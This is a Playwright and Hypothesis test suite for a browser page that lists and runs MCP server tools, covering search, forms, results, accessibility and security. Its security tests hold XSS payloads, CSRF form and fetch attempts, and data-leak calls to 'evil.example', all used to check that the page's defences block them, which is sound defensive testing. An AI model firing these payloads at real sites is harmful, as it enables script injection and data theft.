"""The explorer's page, in a real browser."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from hypothesis import Phase, given, settings
from hypothesis import strategies as st
from playwright.sync_api import Browser, Locator, Page, expect

from tests.support.json_values import json_values
from tests.support.pages import DESK, PHONE, Opener, choose, violations
from tests.support.sites import Site, serving

pytestmark = pytest.mark.slow


def run(page: Page) -> Locator:
    page.get_by_role("button", name="Run", exact=True).click()
    result = page.get_by_role("region", name="Result")
    expect(result.locator(".card")).to_be_visible()
    return result


def switch(page: Page, to: str) -> None:
    page.get_by_role("group", name="How to enter arguments").get_by_role("button", name=to).click()


def as_json(page: Page) -> Any:
    """What would be sent, as the page shows it."""
    switch(page, "JSON")
    value = json.loads(page.get_by_label("Arguments as JSON").input_value())
    switch(page, "Form")
    return value


# One file, one request, and nobody else.


@pytest.mark.requirement("FR-EXPLORER-001", "FR-EXPLORER-005")
def test_the_page_loads_in_one_request_lists_the_tools_and_asks_nobody_else(visit: Opener, site: Site) -> None:
    page = visit("about:blank")
    asked: list[tuple[str, str]] = []
    page.on("request", lambda request: asked.append((request.resource_type, request.url)))
    page.goto(site.address)
    expect(page.locator("#count")).to_have_text("10 tools")
    listed = page.locator("#list button", has_text="greet")
    expect(listed).to_contain_text("Greets somebody.")
    choose(page, "everything")
    run(page)
    loads = [url for kind, url in asked if kind not in ("fetch", "image", "media")]
    assert loads == [site.explorer]
    assert [url for _, url in asked if not url.startswith((site.explorer, "data:", "blob:"))] == []


def test_the_token_leaves_the_address_and_lasts_for_the_tab(visit: Opener, site: Site) -> None:
    page = visit()
    expect(page.locator("#list li").first).to_be_visible()
    token = site.address.partition("#token=")[2]
    assert len(token) >= 32
    assert token not in page.evaluate("location.href")
    page.reload()
    choose(page, "greet")
    page.get_by_label("name", exact=True).fill("Ada")
    expect(run(page)).to_contain_text("Hello, Ada!")


# Finding a tool.


def test_tools_are_searched_and_filtered(visit: Opener) -> None:
    page = visit()
    shown = page.locator("#list li:visible b")
    expect(shown).to_have_count(10)
    page.get_by_label("Search tools").fill("GREETS some")
    expect(shown).to_have_text(["greet"])
    page.get_by_label("Search tools").fill("nothing of the kind")
    expect(page.locator("#count")).to_have_text("0 of 10 tools")
    page.get_by_label("Search tools").fill("")
    page.get_by_role("button", name="Read-only").click()
    expect(shown).to_have_text(["everything", "greet", "health", "numbers"])
    page.get_by_role("button", name="Idempotent").click()
    page.get_by_role("button", name="Closed world").click()
    expect(shown).to_have_text(["everything", "health"])
    for name in ("Read-only", "Closed world", "Idempotent", "Destructive"):
        page.get_by_role("button", name=name).click()
    expect(page.locator("#list li:visible b", has_text="shop/order")).to_be_visible()


def test_a_thousand_tools_are_no_burden(visit: Opener) -> None:
    with serving("many_tools.py:TOOLS") as many:
        page = visit(many.address)
        expect(page.locator("#count")).to_have_text("1001 tools")
        took = page.evaluate(
            """async () => {
                const began = performance.now();
                const search = document.getElementById("search");
                search.value = "number 777";
                search.dispatchEvent(new Event("input"));
                await new Promise(requestAnimationFrame);
                return performance.now() - began;
            }"""
        )
        expect(page.locator("#list li:visible b")).to_have_text(["area17/tool-777"])
        assert took < 500
        # Nothing can be run here, and the page says why.
        expect(page.get_by_role("button", name="Run", exact=True)).to_be_disabled()
        expect(page.locator("#why")).to_contain_text("--allow-execute")


# The form.


def test_a_form_has_nested_objects_lists_choices_and_defaults(visit: Opener) -> None:
    page = visit(tool="shop/order")
    assert as_json(page) == {"items": [], "delivery": {"type": "pickup"}, "size": "M", "gift": False}
    page.get_by_label("customer").fill("Ada")
    for number, sku in enumerate(("hat", "coat"), 1):
        page.get_by_role("button", name="Add to items").click()
        page.get_by_role("group", name=f"items {number}").get_by_label("sku").fill(sku)
    page.get_by_role("group", name="items 2").get_by_label("amount", exact=True).fill("3")
    page.get_by_label("delivery: which kind").select_option("Courier")
    page.get_by_label("street").fill("Long Street 1")
    page.get_by_label("zip").fill("12345")
    page.get_by_label("size").select_option("L")
    page.get_by_label("gift").check()
    page.get_by_label("weight").fill("1.5")
    page.get_by_label("labels").fill('{"to": "her"}')
    page.get_by_label("set back").check()
    page.get_by_role("group", name="back").get_by_label("street").fill("Short Street 2")
    page.get_by_role("group", name="back").get_by_label("zip").fill("54321")
    wanted = {
        "customer": "Ada",
        "items": [{"sku": "hat", "amount": 1}, {"sku": "coat", "amount": 3}],
        "delivery": {"type": "courier", "to": {"street": "Long Street 1", "zip": "12345"}},
        "size": "L",
        "gift": True,
        "weight": 1.5,
        "labels": {"to": "her"},
        "back": {"street": "Short Street 2", "zip": "54321"},
    }
    assert as_json(page) == wanted
    page.get_by_role("button", name="Remove items 1").click()
    wanted["items"] = [{"sku": "coat", "amount": 3}]
    assert as_json(page) == wanted
    result = run(page)
    result.get_by_role("button", name="JSON").click()
    returned = json.loads(result.locator("pre").first.inner_text())
    assert returned["delivery"]["to"] == {"street": "Long Street 1", "zip": "12345"}
    assert returned["items"] == wanted["items"]


def test_the_switch_to_json_and_back_keeps_what_was_typed(visit: Opener) -> None:
    page = visit(tool="shop/order")
    raw = page.get_by_label("Arguments as JSON")
    typed = """{ "customer": "Ada\\nLovelace",   "extra": [1, {"deep": true}],
      "items": [{"sku": "hat", "amount": "three", "colour": "red"}],
      "delivery": {"type": "courier", "to": {"street": "S", "zip": "1"}},
      "weight": 12345678901234567890, "size": "XXL", "labels": {"a": "b"} }"""
    switch(page, "JSON")
    raw.fill(typed)
    switch(page, "Form")
    expect(page.get_by_label("customer")).to_have_value("Ada\nLovelace")
    expect(page.get_by_label("amount", exact=True)).to_have_value("three")
    expect(page.get_by_label("delivery: which kind")).to_have_value("1")
    expect(page.get_by_label("zip")).to_have_value("1")
    switch(page, "JSON")
    expect(raw).to_have_value(typed)  # To the letter: the form has not changed it.
    switch(page, "Form")
    page.get_by_label("customer").fill("Grace")
    switch(page, "JSON")
    assert '"weight": 12345678901234567890' in raw.input_value()
    # The boolean has a default of its own, which the form fills in.
    assert json.loads(raw.input_value()) == {**json.loads(typed), "customer": "Grace", "gift": False}
    raw.fill('{"customer": ')
    switch(page, "Form")
    expect(page.locator("#raw-wrong")).to_contain_text("Not JSON")
    expect(raw).to_have_value('{"customer": ')
    raw.fill("[]")
    switch(page, "Form")
    expect(page.locator("#raw-wrong")).to_contain_text("must be an object")


def test_what_was_typed_for_a_tool_is_there_when_one_comes_back_to_it(visit: Opener) -> None:
    page = visit(tool="greet")
    page.get_by_label("name", exact=True).fill("Ada")
    choose(page, "refuse")
    choose(page, "greet")
    expect(page.get_by_label("name", exact=True)).to_have_value("Ada")


# Running.


def test_a_run_shows_its_result_ids_time_and_stages_and_is_among_the_recent_calls(visit: Opener) -> None:
    page = visit(tool="greet")
    page.get_by_label("name", exact=True).fill("Ada")
    result = run(page)
    expect(result).to_contain_text("Hello, Ada!")
    expect(result.locator(".head")).to_contain_text(re.compile(r"\d+(\.\d+)? ms"))
    run_id = result.get_by_role("button", name="Copy the run id").inner_text()
    assert re.fullmatch(r"[0-9a-f-]{36}", run_id)
    stages = result.locator(".steps li")
    expect(stages.first).to_contain_text("RecordCompletion")
    expect(stages.filter(has_text="handler")).to_contain_text("µs")
    assert stages.count() == 16
    recent = page.get_by_role("list", name="Recent calls").get_by_role("button").first
    expect(recent).to_contain_text("greet")
    recent.click()
    expect(page.locator("#calls .open")).to_contain_text(run_id)
    expect(page.locator("#calls .open .steps li")).to_have_count(16)


def test_calls_of_others_appear_by_themselves_and_the_charts_move(visit: Opener, site: Site) -> None:
    page, other = visit(), visit(tool="numbers")
    before = page.locator("#calls > li").count()
    flat = page.locator(".chart .l").first.get_attribute("d")
    run(other)
    expect(page.locator("#calls > li").first).to_contain_text("numbers")
    assert page.locator("#calls > li").count() > before
    assert page.locator(".chart").count() == 4
    expect(page.locator(".chart .l").first).not_to_have_attribute("d", flat or "")
    expect(page.locator("#health")).to_contain_text(re.compile("healthy|degraded"))


def test_nobody_is_asked_while_nobody_looks(visit: Opener, site: Site) -> None:
    page = visit("about:blank")
    page.add_init_script("Object.defineProperty(document, 'hidden', { get: () => window.away === true })")
    page.goto(site.address)
    with page.expect_response(lambda response: response.url.endswith("/load")):
        expect(page.locator("#health")).to_contain_text(re.compile("healthy|degraded"))
    page.evaluate("window.away = true")
    page.wait_for_timeout(100)  # For what was asked already.
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.wait_for_timeout(1300)
    assert asked == []
    with page.expect_request(f"{site.explorer}load"):
        page.evaluate("window.away = false; document.dispatchEvent(new Event('visibilitychange'))")


def test_every_kind_of_content_is_shown_as_what_it_is(visit: Opener) -> None:
    page = visit(tool="everything")
    result = run(page)
    expect(result).to_contain_text("some text")
    expect(result.locator("img")).to_have_js_property("naturalWidth", 1)
    expect(result.locator("audio")).to_have_attribute("src", "data:audio/wav;base64,UklGRg==")
    link = result.get_by_role("link", name="a link")
    expect(link).to_have_attribute("href", "https://example.org/x")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    expect(result.get_by_role("link", name="a trap")).to_have_count(0)
    expect(result).to_contain_text("some notes")
    expect(result.get_by_role("link", name="Save 3 bytes")).to_have_attribute("download", "data.bin")


def test_large_numbers_are_shown_as_they_came_and_rows_as_a_table(visit: Opener) -> None:
    result = run(visit(tool="numbers"))
    expect(result.locator("th")).to_have_text(["name", "value"])
    expect(result.locator("tbody tr").first).to_have_text(re.compile("large.*12345678901234567890"))


def test_an_error_is_shown_and_its_fields_are_highlighted(visit: Opener) -> None:
    page = visit(tool="shop/order")
    page.get_by_label("customer").fill("Ada")
    page.get_by_role("button", name="Add to items").click()
    page.get_by_label("sku").fill("hat")
    page.get_by_label("amount", exact=True).fill("many")
    result = run(page)
    amount = page.get_by_label("amount", exact=True)
    expect(amount).to_have_attribute("aria-invalid", "true")
    expect(amount).to_be_focused()
    expect(page.get_by_text('the value is not of type "integer"').first).to_be_visible()
    expect(result).to_contain_text("INVALID_ARGUMENT")
    expect(result).to_contain_text("/items/0/amount")
    expect(result).to_contain_text("repeating as it is will not help")
    expect(result.locator(".steps .skipped").first).to_contain_text("not reached")
    amount.fill("2")
    expect(amount).not_to_have_attribute("aria-invalid", "true")
    page.get_by_label("shop").select_option("north")
    expect(run(page)).to_contain_text("Ada")


def test_a_field_that_the_tool_itself_refuses_or_that_is_missing_is_highlighted_too(visit: Opener) -> None:
    page = visit(tool="refuse")
    run(page)
    what = page.get_by_label("what", exact=True)
    expect(what).to_have_attribute("aria-invalid", "true")
    what.fill("this")
    expect(run(page)).to_contain_text("That will not do")
    expect(what).to_have_attribute("aria-invalid", "true")
    expect(page.get_by_label("why")).not_to_have_attribute("aria-invalid", "true")


def test_progress_is_shown_and_a_run_can_be_stopped(visit: Opener) -> None:
    page = visit(tool="wait")
    page.get_by_role("button", name="Run", exact=True).click()
    expect(page.get_by_text("half of it is done")).to_be_visible()
    expect(page.get_by_role("progressbar", name="Progress")).to_have_attribute("aria-valuenow", "50")
    page.get_by_role("button", name="Stop", exact=True).click()
    expect(page.get_by_role("region", name="Result")).to_contain_text("Stopped")
    recent = page.locator("#calls > li").first
    expect(recent).to_contain_text("wait")
    recent.get_by_role("button").click()
    expect(recent).to_contain_text("aborted")


def test_a_question_is_asked_and_answered(visit: Opener) -> None:
    page = visit(tool="ask")
    page.get_by_label("name", exact=True).fill("Ada")
    page.get_by_role("button", name="Run", exact=True).click()
    question = page.get_by_role("form", name="Question")
    expect(question).to_contain_text("Which colour, Ada?")
    question.get_by_label("colour").select_option("blue")
    question.get_by_role("button", name="Answer").click()
    expect(page.get_by_role("region", name="Result")).to_contain_text("Ada likes blue")


def test_a_module_that_needs_approval_runs_only_after_a_yes_in_the_page(visit: Opener) -> None:
    modules = str(Path(__file__).parents[2] / "examples" / "extensions")
    with serving("tools_on_show.py", "--allow-execute", "--extensions-dir", modules) as bridge:
        page = visit(bridge.address, tool="notes.forget")
        page.get_by_label("containing").fill("Ada")
        question, result = page.get_by_role("form", name="Question"), page.get_by_role("region", name="Result")
        page.get_by_role("button", name="Run", exact=True).click()
        expect(question).to_contain_text("May notes.forget run? Forget all notes that contain a text.")
        expect(question).to_contain_text('{"containing": "Ada"}')
        question.get_by_role("button", name="Decline").click()
        expect(result).to_contain_text("APPROVAL_DENIED")
        page.get_by_role("button", name="Run", exact=True).click()
        question.get_by_label("approve").check()
        question.get_by_role("button", name="Answer").click()
        expect(result).to_contain_text("call Ada")


# For everybody, everywhere.


def test_everything_can_be_done_with_the_keyboard(visit: Opener) -> None:
    page = visit()
    expect(page.locator("#detail form")).to_be_visible()
    page.keyboard.press("Escape")
    page.keyboard.press("/")
    expect(page.get_by_label("Search tools")).to_be_focused()
    page.keyboard.type("greet")
    page.keyboard.press("ArrowDown")
    expect(page.locator("#list li:visible button")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.get_by_label("name", exact=True)).to_be_focused()
    page.keyboard.type("Ada")
    page.keyboard.press("Control+Enter")
    expect(page.get_by_role("region", name="Result")).to_contain_text("Hello, Ada!")
    expect(page.locator("#live")).to_have_text("The tool has answered")
    page.keyboard.press("Escape")
    page.keyboard.press("j")
    expect(page.get_by_label("Arguments as JSON")).to_be_visible()
    page.keyboard.press("?")
    expect(page.get_by_role("dialog", name="Keyboard")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.get_by_role("dialog")).to_have_count(0)


def background(page: Page) -> str:
    return str(page.evaluate("getComputedStyle(document.body).backgroundColor"))


def test_it_is_dark_or_light_as_the_reader_likes(visit: Opener) -> None:
    page = visit(color_scheme="light")
    light = background(page)
    page.emulate_media(color_scheme="dark")
    dark = background(page)
    assert light != dark
    page.get_by_role("button", name="Change the colours").click()
    assert background(page) == light
    page.reload()
    assert background(page) == light


def test_on_a_phone_nothing_is_wider_than_the_screen(visit: Opener) -> None:
    page = visit(viewport=PHONE, has_touch=True, is_mobile=True)
    overflow = "document.scrollingElement.scrollWidth - innerWidth"
    expect(page.locator("#list li").first).to_be_visible()
    assert page.evaluate(overflow) <= 0
    for tool in ("everything", "numbers", "shop/order", "hostile/tool", "hostile/object"):
        choose(page, tool)
        assert page.evaluate(overflow) <= 0, tool
        run(page)
        assert page.evaluate(overflow) <= 0, tool
        wide = page.evaluate(
            """[...document.querySelectorAll("#detail *")].filter((each) =>
                each.getBoundingClientRect().right > innerWidth + 1 && !each.closest(".out, .scroll, .sr, pre")
            ).map((each) => each.outerHTML.slice(0, 120))"""
        )
        assert wide == [], tool
    page.get_by_role("button", name="Activity", exact=True).click()
    expect(page.locator("#calls > li").first).to_be_visible()
    assert page.evaluate(overflow) <= 0
    page.get_by_role("button", name="Connect").click()
    assert page.evaluate(overflow) <= 0


@pytest.mark.parametrize("look", ["light", "dark", "phone"])
def test_nothing_keeps_people_out(visit: Opener, axe: str, look: str) -> None:
    size = PHONE if look == "phone" else DESK
    page = visit(viewport=size, color_scheme="dark" if look == "dark" else "light", bypass_csp=True)

    def check(what: str) -> None:
        assert violations(page, axe) == {}, what

    expect(page.locator("#list li").first).to_be_visible()
    check("the list")
    choose(page, "shop/order")
    page.get_by_role("button", name="Add to items").click()
    page.get_by_label("delivery: which kind").select_option("Courier")
    run(page)
    check("a form with an error")
    choose(page, "everything")
    run(page)
    check("a result")
    if look == "phone":
        page.get_by_role("button", name="Activity", exact=True).click()
    page.locator("#calls button.row").first.click()
    expect(page.locator("#calls .open dl")).to_be_visible()
    check("the activity")
    page.get_by_role("button", name="Connect").click()
    check("a dialog")


def test_the_snippet_to_paste_leads_to_the_endpoint(visit: Opener, site: Site) -> None:
    page = visit(permissions=["clipboard-read", "clipboard-write"])
    expect(page.locator("#version")).not_to_be_empty()
    page.get_by_role("button", name="Connect").click()
    page.get_by_role("button", name="Copy for Most clients").click()
    expect(page.locator("#live")).to_have_text("Copied")
    copied = json.loads(page.evaluate("navigator.clipboard.readText()"))
    assert copied == {"mcpServers": {"dragoman": {"url": f"{site.root}/mcp"}}}


# Those who mean no good.


def test_nothing_that_a_tool_says_runs_as_script(visit: Opener) -> None:
    page = visit(tool="hostile/tool")
    expect(page.locator("#detail")).to_contain_text("<script>window.pwned='description'</script>")
    assert page.locator("#detail img, #detail script, #list img").count() == 0
    for name in ("nested", "missing", "loop"):  # Schemas that go round in circles are unrolled as far as one looks.
        page.get_by_label(f"set {name}").first.check()
    expect(page.get_by_label("set loop")).to_have_count(2)
    page.get_by_label("set missing").last.uncheck()
    switch(page, "JSON")
    result = run(page)
    expect(result).to_contain_text("<script>window.pwned='text'</script>")
    assert [each.get_attribute("src")[:19] for each in result.locator("img").all()] == ["data:image/svg+xml;"]  # type: ignore[index]
    assert [each.get_attribute("href")[:5] for each in result.locator("a").all()] == ["blob:"]  # type: ignore[index]
    page.get_by_label("Arguments as JSON").fill('{"choice": "fail"}')
    expect(run(page)).to_contain_text("do not match")
    page.get_by_label("Arguments as JSON").fill('{"x": "fail"}')
    expect(run(page)).to_contain_text("window.pwned='error'")
    failed = page.locator("#calls > li", has=page.locator(".dot.bad"), has_text="hostile/tool")
    expect(failed).to_have_count(2)
    failed.first.get_by_role("button").click()
    expect(page.locator("#calls .open")).to_contain_text("window.pwned='error'")
    choose(page, "hostile/object")
    expect(run(page)).to_contain_text("window.pwned='key'")
    assert page.evaluate("({}).polluted") is None
    assert page.locator("script").count() == 1


def test_the_policy_stops_script_that_gets_into_the_page_all_the_same(visit: Opener) -> None:
    page = visit()
    stopped = page.evaluate(
        """async () => {
            const refused = [];
            document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
            const add = (kind, property, value) => {
                const element = document.createElement(kind);
                element[property] = value;
                document.body.append(element);
            };
            const tries = [
                () => { document.body.innerHTML += "<img src=x onerror=window.pwned=1>"; },
                () => setTimeout("window.pwned = 2"),
                () => add("script", "textContent", "window.pwned = 3"),
                () => add("img", "src", "http://evil.example/leak"),
                () => add("iframe", "src", "data:text/html,x"),
                () => fetch("http://evil.example/leak").catch(() => {}),
            ];
            for (const each of tries) { try { await each(); } catch { /* As it should be. */ } }
            await new Promise((done) => setTimeout(done, 200));
            return refused;
        }"""
    )
    assert {"require-trusted-types-for", "img-src", "frame-src", "connect-src"} <= set(stopped)


@contextmanager
def another_site(html: str) -> Iterator[str]:
    """A page of another origin on the same machine, which the server lets in: the token has to do."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(html.encode())

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
    try:
        yield f"http://localhost:{server.server_port}/"
    finally:
        server.shutdown()
        server.server_close()


def completed(page: Page, site: Site) -> int:
    load = page.request.get(f"{site.explorer}load").json()
    return int(load["completed"])


@pytest.mark.parametrize("host", ["localhost", "evil.example"])
def test_another_page_cannot_run_a_tool(visit: Opener, site: Site, host: str) -> None:
    target = f"{site.explorer}tools/greet/call"
    html = f"""<form id=f method=post enctype=text/plain action="{target}" target=t>
        <input name='{{"name":"' value='"}}'></form><iframe name=t></iframe>"""
    with another_site(html) as address:
        page = visit(address.replace("localhost", host))
        before = completed(page, site)
        seen = page.evaluate(
            """async (target) => {
                document.getElementById("f").submit();
                const body = '{"name":"x"}', json = { "content-type": "application/json" };
                const tries = [
                    { mode: "no-cors", body }, { mode: "no-cors", body, headers: { "content-type": "text/plain" } },
                    { body, headers: json }, { body, headers: { ...json, "x-explorer-token": "guess" } },
                    { body, headers: json, credentials: "include" },
                ];
                const seen = [];
                for (const each of tries) {
                    seen.push(await fetch(target, { method: "POST", ...each }).then((r) => r.status, () => "blocked"));
                }
                navigator.sendBeacon(target, new Blob([body], { type: "text/plain" }));
                await new Promise((done) => setTimeout(done, 200));
                return seen;
            }""",
            target,
        )
        assert set(seen) <= {0, "blocked", 403}
        assert completed(page, site) == before


def test_a_name_that_was_made_to_point_here_is_not_served(visit: Opener, site: Site) -> None:
    page = visit("about:blank")
    for path in ("/explorer/", "/explorer/tools"):
        answer = page.goto(site.root.replace("127.0.0.1", "evil.example") + path)
        assert answer is not None
        assert answer.status == 421


def test_the_page_cannot_be_framed(visit: Opener, site: Site) -> None:
    with another_site(f"<iframe src='{site.explorer}'></iframe>") as address:
        page = visit(address)
        page.wait_for_timeout(300)
        assert [frame for frame in page.frames if frame.url.startswith(site.explorer)] == []


def test_without_the_printed_address_tools_can_be_read_and_not_run(visit: Opener, site: Site) -> None:
    page = visit(site.explorer, tool="greet")
    expect(page.get_by_role("button", name="Run", exact=True)).to_be_disabled()
    expect(page.locator("#why")).to_contain_text("open the address that the server printed")
    page.keyboard.press("Control+Enter")
    expect(page.get_by_role("region", name="Result").locator(".card")).to_have_count(0)


def test_where_callers_say_who_they_are_the_page_asks(visit: Opener, tmp_path: Path) -> None:
    settings = tmp_path / "settings.toml"
    settings.write_text(f'[auth.callers.ada]\ntoken = "{"a" * 32}"\nscopes = ["tool:greet"]\n')
    with serving("tools_on_show.py", "--allow-execute", "--config", str(settings)) as guarded:
        page = visit(guarded.address)
        asks = page.get_by_role("dialog", name="Who are you?")
        asks.get_by_label("Bearer token").fill("wrong")
        asks.get_by_role("button", name="Go on").click()
        expect(asks).to_be_visible()
        asks.get_by_label("Bearer token").fill("a" * 32)
        asks.get_by_role("button", name="Go on").click()
        expect(page.locator("#count")).to_have_text("1 tool")
        choose(page, "greet")
        page.get_by_label("name", exact=True).fill("Ada")
        expect(run(page)).to_contain_text("Hello, Ada!")


# Any form.

Shape = tuple[dict[str, Any], st.SearchStrategy[Any]]
TEXTS = st.text(st.characters(codec="utf-8", exclude_categories=["C"]), min_size=1, max_size=20)
NAMES = st.text("abcxyz_~/$ é", min_size=1, max_size=6)
NUMBERS = st.floats(allow_nan=False, allow_infinity=False)


def lists_of(shape: Shape) -> Shape:
    schema, values = shape
    return {"type": "array", "items": schema}, st.lists(values, max_size=3)


def objects_of(members: dict[str, tuple[Shape, bool]]) -> Shape:
    schema = {
        "type": "object",
        "properties": {name: shape[0] for name, (shape, _) in members.items()},
        "required": [name for name, (_, required) in members.items() if required],
    }
    required = {name: shape[1] for name, (shape, required) in members.items() if required}
    optional = {name: shape[1] for name, (shape, required) in members.items() if not required}
    return schema, st.fixed_dictionaries(required, optional=optional)


def choices_of(shapes: list[Shape]) -> Shape:
    """Objects that say which one they are."""
    tags = [str(number) for number in range(len(shapes))]
    variants = [
        {"type": "object", "properties": {"is": {"const": tag}, "has": schema}, "required": ["is", "has"]}
        for tag, (schema, _) in zip(tags, shapes, strict=True)
    ]
    values = [
        st.fixed_dictionaries({"is": st.just(tag), "has": inner}) for tag, (_, inner) in zip(tags, shapes, strict=True)
    ]
    return {"oneOf": variants}, st.one_of(values)


LEAVES: list[Shape] = [
    ({"type": "string"}, TEXTS),
    ({"type": "string", "format": "email"}, TEXTS),
    ({"type": "integer"}, st.integers()),
    ({"type": "integer", "minimum": 0, "maximum": 10}, st.integers(0, 10)),
    ({"type": "number"}, NUMBERS),
    ({"type": "boolean"}, st.booleans()),
    ({"enum": ["a", 1, None, True, "b"]}, st.sampled_from(["a", 1, True, "b"])),
    ({"type": ["string", "null"]}, TEXTS),
    ({"anyOf": [{"type": "integer"}, {"type": "null"}]}, st.integers()),
    (
        {"type": "object", "additionalProperties": {"type": "integer"}},
        st.dictionaries(NAMES, st.integers(), min_size=1),
    ),
    ({}, st.lists(st.one_of(TEXTS, st.integers()), min_size=1)),
    ({"type": "array", "prefixItems": [{"type": "integer"}, {"type": "string"}]}, st.tuples(st.integers(), TEXTS)),
]


def containers_of(shapes: st.SearchStrategy[Shape]) -> st.SearchStrategy[Shape]:
    return st.one_of(
        shapes.map(lists_of),
        st.dictionaries(NAMES, st.tuples(shapes, st.booleans()), min_size=1, max_size=3).map(objects_of),
        st.lists(shapes, min_size=2, max_size=3).map(choices_of),
    )


SHAPES: st.SearchStrategy[Shape] = st.recursive(st.sampled_from(LEAVES), containers_of, max_leaves=6)


@st.composite
def cases(draw: st.DrawFn) -> tuple[dict[str, Any], Any]:
    members = draw(st.dictionaries(NAMES, st.tuples(SHAPES, st.booleans()), min_size=1, max_size=3))
    schema, values = objects_of(members)
    return schema, draw(values)


@pytest.fixture(scope="module")
def bench(browser: Browser, site: Site) -> Page:
    """A page whose functions are called directly."""
    page = browser.new_page()
    page.goto(site.explorer)
    return page


def mismatches(given_cases: list[tuple[dict[str, Any], Any]], held: str) -> list[Any]:
    """Schema, value and what was held instead."""
    returned = zip(given_cases, json.loads(held), strict=True)
    return [(schema, value, other) for (schema, value), other in returned if json.loads(json.dumps(value)) != other]


@settings(max_examples=15, phases=[Phase.generate])
@given(st.lists(cases(), min_size=20, max_size=20))
def test_a_form_holds_whatever_its_schema_allows(bench: Page, given_cases: list[tuple[dict[str, Any], Any]]) -> None:
    held = bench.evaluate(
        """(cases) => JSON.stringify(parse(cases).map(([schema, value]) => {
            const { field } = makeForm(schema);
            field.set(value);
            // As if every field were edited, so that the form itself has to hold it all.
            for (const each of field.el.querySelectorAll("input:not([type=range]), textarea, select")) edited(each);
            return field.get();
        }))""",
        json.dumps(given_cases),
    )
    assert mismatches(given_cases, held)[:1] == []


@settings(max_examples=15, phases=[Phase.generate])
@given(
    st.lists(
        st.tuples(
            SHAPES.map(lambda shape: shape[0]),
            json_values(
                st.one_of(st.none(), st.booleans(), st.integers(), NUMBERS, TEXTS, st.just("")), NAMES, max_leaves=6
            ),
        ),
        min_size=20,
        max_size=20,
    )
)
def test_a_form_keeps_what_does_not_fit_it(bench: Page, given_cases: list[tuple[dict[str, Any], Any]]) -> None:
    held = bench.evaluate(
        """(cases) => JSON.stringify(parse(cases).map(([schema, value]) => {
            const { field } = makeForm({ type: "object", properties: { a: schema, b: { type: "string" } } });
            field.set({ a: value, b: "x" });
            return field.get().a;
        }))""",
        json.dumps(given_cases),
    )
    assert mismatches(given_cases, held)[:1] == []


def test_when_the_server_goes_the_page_says_so(visit: Opener) -> None:
    with serving("many_tools.py:TOOLS") as going:
        page = visit(going.address)
        expect(page.locator("#health")).to_contain_text(re.compile("healthy|degraded"))
    expect(page.locator("#health")).to_have_text("not reachable")
